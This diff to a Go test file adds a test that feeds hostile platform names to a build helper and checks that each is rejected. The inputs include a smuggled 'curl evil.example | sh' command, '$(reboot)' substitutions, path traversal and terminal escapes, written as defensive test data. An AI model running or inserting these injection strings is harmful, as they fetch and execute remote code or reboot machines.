@@ -189,6 +189,21 @@ func TestHandOverToAnotherPlatform(t *testing.T) {
 	}
 }
 
+// What a node calls itself gets into no path here, and into no command that somebody copies.
+func TestAPlatformIsAWord(t *testing.T) {
+	p := program(t, "linux", "arm64")
+	for _, word := range []string{
+		"", "x; curl evil.example | sh #", "$(reboot)", "`reboot`", "../../x", "a b", "x\x1b[2J", "-x", strings.Repeat("x", 1<<20),
+	} {
+		for _, pair := range [][2]string{{word, "arm64"}, {"linux", word}} {
+			_, err := p.file(pair[0], pair[1])
+			if err == nil || strings.Contains(err.Error(), "go build") || len(err.Error()) > 200 {
+				t.Errorf("%.40q: %.300v", pair, err)
+			}
+		}
+	}
+}
+
 // What a node says of itself and of its own railbench.
 func TestFound(t *testing.T) {
 	for text, want := range map[string]platform{
